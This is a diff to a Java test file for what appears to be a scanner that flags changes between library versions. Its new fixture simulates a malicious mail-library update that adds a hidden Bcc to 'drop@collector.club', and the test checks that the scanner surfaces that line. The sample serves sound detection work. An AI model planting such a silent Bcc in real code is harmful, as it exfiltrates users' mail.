@@ -2,6 +2,9 @@ package dev.assay.scanners.jvm;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.assay.scanners.changes.ChangePlans;
+import dev.assay.scanners.changes.CodeCutter;
+import dev.assay.scanners.changes.FileDifference;
 import dev.assay.scanners.delta.Delta;
 import dev.assay.scanners.delta.DeltaEngine;
 import dev.assay.scanners.delta.Verdict;
@@ -9,6 +12,7 @@ import dev.assay.scanners.finding.Finding;
 import dev.assay.scanners.finding.FindingKind;
 import dev.assay.scanners.finding.Severity;
 import dev.assay.scanners.profile.Profile;
+import dev.assay.scanners.vendored.Attributed;
 
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -125,6 +129,25 @@ class JarUpdatesTest {
                             assertThat(finding.severity()).isEqualTo(Severity.HIGH);
                         });
         assertThat(delta.coverage().changedFunctions()).isEqualTo(1);
+    }
+
+    @Test
+    void showsWhatChangedAsInstructions() {
+        var before = mailer("org.postage", "", 3);
+        var now =
+                mailer("org.postage", "body.put(\"Bcc\", \"drop@collector.club\");", 3)
+                        .version("1.0.1");
+        var difference = FileDifference.of(before.tree(), now.tree(), "org/postage/Mailer.class");
+        assertThat(difference.lines()).contains("+    push \"drop@collector.club\"");
+        var from = Attributed.unknown(before.profile());
+        var to = Attributed.unknown(now.profile());
+        var code = new CodeCutter(before.tree(), now.tree()).cut(ChangePlans.between(from, to));
+        assertThat(code.functions())
+                .singleElement()
+                .satisfies(
+                        function ->
+                                assertThat(String.valueOf(function.to()))
+                                        .contains("drop@collector.club", "Mailer.send"));
     }
 
     private static Delta compare(Profile from, Profile to) {
